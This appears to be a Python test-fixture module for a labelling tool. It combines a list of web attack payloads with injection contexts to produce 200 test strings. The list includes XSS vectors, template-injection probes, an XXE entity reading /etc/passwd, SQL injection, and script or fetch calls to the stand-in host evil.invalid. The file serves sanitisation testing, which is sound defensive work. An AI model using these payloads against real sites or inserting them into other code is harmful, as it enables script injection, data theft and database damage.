"""Two hundred texts that would do harm if anything took them for more than text.

Each is a payload in a context. What runs would set ``window.labelkitRan``, say ``labelkit-ran`` on
the console, open a dialog, or call the host ``evil.invalid``.
"""

from __future__ import annotations

_RUN = "window.labelkitRan=1"
_LOG = "console.log('labelkit-ran')"
_CALL = "fetch('http://evil.invalid/')"

_PAYLOADS = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt>{_LOG}</sCrIpT>",
    "<script src='http://evil.invalid/x.js'></script>",
    f"<img src=x onerror={_RUN}>",
    f'<img src="http://evil.invalid/p.png" onload="{_CALL}">',
    f"<svg onload={_RUN}><circle r=9></svg>",
    f"<svg><script>{_LOG}</script></svg>",
    f"<body onload={_RUN}>",
    f'<iframe srcdoc="<script>parent.{_RUN.removeprefix("window.")}</script>"></iframe>',
    "<iframe src='javascript:alert(1)'></iframe>",
    f"<details open ontoggle={_RUN}>x</details>",
    f"<input autofocus onfocus={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    "<object data='http://evil.invalid/o'></object>",
    "<embed src='javascript:alert(1)'>",
    "<link rel=stylesheet href='http://evil.invalid/s.css'>",
    "<style>@import 'http://evil.invalid/s.css';</style>",
    "<base href='http://evil.invalid/'>",
    "<meta http-equiv=refresh content='0;url=http://evil.invalid/'>",
    "<form action='http://evil.invalid/'><button>go</button></form>",
    "<a href='javascript:alert(1)'>click</a>",
    f"<math><mtext><img src=x onerror={_RUN}></mtext></math>",
    f"<template><img src=x onerror={_RUN}></template>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'></noscript>",
    "{{7*7}}",
    "{{constructor.constructor('alert(1)')()}}",
    "{% load static %}{% csrf_token %}",
    "{% include 'x' %}{{ request.user.password }}",
    "${alert(1)}",
    "#{7*7}",
    "<%= 7*7 %>",
    "$query",
    "$labelkit_key",
    "$undefined_name and ${query}",
    "</View><View><Header value='injected'/>",
    "<Choice value='injected'/>",
    "<Choices name='label' toName='x'><Choice value='injected'/></Choices>",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
    "]]><![CDATA[<b>x</b>",
    "<?xml version='1.0'?><?php echo 1; ?>",
    "'; DROP TABLE task; --",
    '" OR 1=1 --',
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "http://evil.invalid/image.png",
    "//evil.invalid/image.png",
    "s3://bucket/secret.png",
    "file:///etc/passwd",
    "&lt;b&gt;entities&lt;/b&gt; &amp; &#60;i&#62; &quot;",
    "\u202eright to left\u202c and \u200bzero\u200b width and \ufeffmark",
)
_CONTEXTS = (
    "{}",
    'x" autofocus onfocus="window.labelkitRan=1" y="{}',
    "words before {} and after",
    "'>\"></textarea></title></style></script>{}<!--",
)
TEXTS = tuple(context.replace("{}", payload) for context in _CONTEXTS for payload in _PAYLOADS)
